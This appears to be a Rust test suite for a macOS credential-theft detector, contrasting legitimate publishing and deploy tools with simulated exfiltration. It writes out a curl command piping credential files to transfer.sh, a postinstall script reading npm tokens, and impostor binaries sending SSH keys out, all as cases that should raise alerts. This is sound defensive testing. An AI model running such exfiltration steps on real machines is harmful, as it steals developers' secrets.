//! Days as people work: each tool with its own credentials to its own place.

use super::world::*;

const CURL: Program = apple("/usr/bin/curl", "com.apple.curl");
const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
const GIT: Program = apple("/usr/bin/git", "com.apple.git");
const LOGIN: &str = "/Users/alice/Library/Keychains/login.keychain-db";

/// Publishing, pushing, applying: each tool with its own credentials to its own place.
#[test]
fn developers_publish() {
    let npm = "/opt/homebrew/lib/node_modules/npm/bin/npm-cli.js";
    works(
        adhoc("/opt/homebrew/Cellar/node/23.3.0/bin/node", "node"),
        &["node", npm, "publish"],
        &["/Users/alice/.npmrc"],
        "registry.npmjs.org",
        300_000,
    )
    .none();
    works(
        adhoc("/opt/homebrew/Cellar/python@3.13/3.13.1/bin/python3.13", "python3"),
        &["python3.13", "-m", "twine", "upload", "dist/x.whl"],
        &["/Users/alice/.pypirc"],
        "upload.pypi.org",
        300_000,
    )
    .none();
    let cargo = adhoc("/Users/alice/.cargo/bin/cargo", "cargo");
    works(cargo, &["cargo", "publish"], &["/Users/alice/.cargo/credentials.toml"], "crates.io", 300_000)
        .none();
    let docker = vendor("/Applications/Docker.app/Contents/Resources/bin/docker", "docker", "9BNSXJN65R");
    works(
        docker,
        &["docker", "push", "ghcr.io/corp/app"],
        &["/Users/alice/.docker/config.json"],
        "ghcr.io",
        9_000_000,
    )
    .none();
    let gh = adhoc("/opt/homebrew/Cellar/gh/2.63.0/bin/gh", "gh");
    works(
        gh,
        &["gh", "release", "upload", "v1", "dist/app.zip"],
        &["/Users/alice/.config/gh/hosts.yml"],
        "uploads.github.com",
        9_000_000,
    )
    .none();
}

/// The same of what is in homes and of assistants; whoever else takes their keys is told.
#[test]
fn tools_with_keys_of_their_own() {
    const NODE: Program = vendor("/Users/alice/.nvm/versions/node/v22.11.0/bin/node", "node", "HX7739G8FX");
    const NGROK: Program = vendor("/opt/homebrew/Caskroom/ngrok/3.30.0/ngrok", "ngrok", "TEX8MHRDQ9");
    let pulumi = adhoc("/opt/homebrew/Cellar/pulumi/3.150.0/bin/pulumi", "pulumi");
    let python = adhoc("/opt/homebrew/Cellar/python@3.13/3.13.1/bin/python3.13", "python3");
    let hf = "/Users/alice/.local/bin/hf";
    let pyenv = adhoc("/Users/alice/.pyenv/versions/3.12.1/bin/python3.12", "python3.12");
    let aws = "/Users/alice/.pyenv/versions/3.12.1/bin/aws";
    let az = "/Users/alice/.local/bin/az";
    for (program, args, key, host) in [
        (pulumi, &["pulumi", "up"][..], ".pulumi/credentials.json", "corp-state.s3.amazonaws.com"),
        (
            NGROK,
            &["ngrok", "http", "80"],
            "Library/Application Support/ngrok/ngrok.yml",
            "connect.ngrok-agent.com",
        ),
        (
            python,
            &["python3.13", hf, "upload", "me/model", "w"],
            ".cache/huggingface/token",
            "huggingface.co",
        ),
        (pyenv, &["python3.12", aws, "s3", "sync"], ".aws/credentials", "corp-site.s3.amazonaws.com"),
        (
            python,
            &["python3.13", az, "storage", "blob"],
            ".azure/azureProfile.json",
            "corp.blob.core.windows.net",
        ),
    ] {
        let key = format!("/Users/alice/{key}");
        works(program, args, &[&key], host, 400_000).none();
        let curl = ["curl", "-T", "-", "https://transfer.sh/"];
        works(CURL, &curl, &[&key], "transfer.sh", 6_000).alert();
    }
    // An assistant looks at its key and then has git push for it.
    let cli = "/Users/alice/.nvm/versions/node/v22.11.0/lib/node_modules/@anthropic-ai/claude-code/cli.js";
    for (script, own) in [(cli, true), ("/Users/alice/Downloads/cli.js", false)] {
        let mut w = World::new();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let assistant = w.spawn(1.0, &shell, NODE, &["node", script]);
        w.open(1.1, &assistant, "/Users/alice/.claude.json");
        let sub = w.spawn(2.0, &assistant, ZSH, &["zsh", "-c", "git push"]);
        let git = w.spawn(2.1, &sub, GIT, &["git", "push"]);
        w.upload(3.0, &git, "github.com", 30_000);
        assert_eq!(w.tell().alerts().is_empty(), own, "{script}");
    }
}

/// `npm run deploy`: npm looks into its settings, and what the project has it run uploads. A script of a package that reads
/// them by itself is another matter.
#[test]
fn a_package_manager_runs_what_deploys() {
    const NODE: Program = adhoc("/opt/homebrew/Cellar/node/23.3.0/bin/node", "node");
    const AWS: Program = vendor("/usr/local/aws-cli/aws", "com.amazon.aws.cli2", "94KV3E626L");
    for (reader, steals) in [("/opt/homebrew/bin/npm", false), ("node_modules/x/postinstall.js", true)] {
        let mut w = World::new();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let npm = w.spawn(1.0, &shell, NODE, &["node", reader]);
        w.open(1.1, &npm, "/Users/alice/.npmrc");
        let deploy = w.spawn(2.0, &npm, ZSH, &["sh", "-c", "aws s3 sync dist s3://corp-site"]);
        let aws = w.spawn(2.1, &deploy, AWS, &["aws", "s3", "sync", "dist", "s3://corp-site"]);
        w.upload(3.0, &aws, "corp-site.s3.amazonaws.com", 900_000);
        assert_eq!(!w.tell().alerts().is_empty(), steals, "{reader}");
    }
}

/// `git push` by https: a helper asks the keychain, git sends.
#[test]
fn git_with_a_credential_helper() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let push = w.spawn(1.0, &shell, GIT, &["git", "push"]);
    let remote = w.piped(
        1.1,
        &push,
        apple("/usr/libexec/git-core/git-remote-http", "com.apple.git-remote-http"),
        &["git-remote-https"],
        &[(0, 90), (1, 91)],
    );
    let helper =
        apple("/usr/libexec/git-core/git-credential-osxkeychain", "com.apple.git-credential-osxkeychain");
    let helper = w.piped(1.2, &remote, helper, &["git-credential-osxkeychain", "get"], &[(0, 92), (1, 93)]);
    w.open(1.3, &helper, LOGIN);
    w.exit(1.4, &helper);
    w.upload(2.0, &remote, "github.com", 3_000_000);
    w.tell().none();
}

/// kubectl's plugin fetches a token; `op run` fills an environment and terraform applies.
#[test]
fn plugins_and_runners() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let kubectl = w.spawn(
        1.0,
        &shell,
        adhoc("/opt/homebrew/Cellar/kubernetes-cli/1.31.3/bin/kubectl", "kubectl"),
        &["kubectl", "apply", "-f", "x.yaml"],
    );
    w.open(1.1, &kubectl, "/Users/alice/.kube/config");
    let plugin = w.piped(
        1.2,
        &kubectl,
        vendor("/usr/local/aws-cli/aws", "com.amazon.aws.cli2", "94KV3E626L"),
        &["aws", "eks", "get-token", "--cluster-name", "c"],
        &[(1, 95)],
    );
    w.open(1.3, &plugin, "/Users/alice/.aws/credentials");
    w.exit(1.5, &plugin);
    w.upload(2.0, &kubectl, "storage.googleapis.com", 50_000);
    let op = w.spawn(
        5.0,
        &shell,
        vendor("/usr/local/bin/op", "com.1password.op", "2BUA8C4S2C"),
        &["op", "run", "--", "terraform", "apply"],
    );
    w.open(5.1, &op, "/Users/alice/Library/Group Containers/2BUA8C4S2C.com.1password/t/s.sock");
    let terraform = w.spawn(
        5.5,
        &op,
        vendor("/opt/homebrew/bin/terraform", "terraform", "D38WU7D763"),
        &["terraform", "apply"],
    );
    w.open(5.6, &terraform, "/Users/alice/.aws/credentials");
    w.upload(6.0, &terraform, "corp-state.s3.eu-central-1.amazonaws.com", 90_000);
    w.tell().none();
}

/// Indexers, scanners and managers look at everything; what they report goes home.
#[test]
fn the_system_looks_at_everything() {
    let mds = apple(
        "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared",
        "com.apple.mdworker_shared",
    );
    let mdm = apple("/usr/libexec/mdmclient", "com.apple.mdmclient");
    for program in [mds, apple("/usr/libexec/XProtectFramework", "com.apple.XProtectFramework")] {
        works(
            program,
            &["x"],
            &["/Users/alice/.ssh/id_rsa", "/Users/alice/Documents/plan.docx"],
            "icloud.com",
            90_000,
        )
        .none();
    }
    // Each of XProtect's scanners has a name of its own, and comes and goes with its updates.
    const SCANNERS: &str = "/Library/Apple/System/Library/CoreServices/XProtect.app/Contents/MacOS";
    let keys = ["/Users/alice/.ssh/id_rsa", "/Users/alice/Documents/plan.docx"];
    let scans = |program: Program| works(program, &["x"], &keys, "content.dropboxapi.com", 90_000);
    let pirrit = format!("{SCANNERS}/XProtectRemediatorPirrit").leak();
    for id in
        ["com.apple.XProtectFramework.plugins.Pirrit", "com.apple.XProtectFramework.plugins.NotYetKnown"]
    {
        scans(apple(pirrit, id)).none();
        // Its name, but not its place, or not Apple's.
        scans(apple("/private/tmp/XProtect.app/Contents/MacOS/XProtectRemediatorPirrit", id)).alert();
        scans(vendor(pirrit, id, "ABCDE12345")).alert();
    }
    // Its place, but no scanner.
    scans(apple(pirrit, "com.apple.curl")).alert();
    scans(apple(pirrit, "com.apple.XProtectFramework.pluginsX")).alert();
    works(
        mdm,
        &["mdmclient", "daemon"],
        &["/Library/Keychains/System.keychain"],
        "corp.jamfcloud.com",
        90_000,
    )
    .none();
}
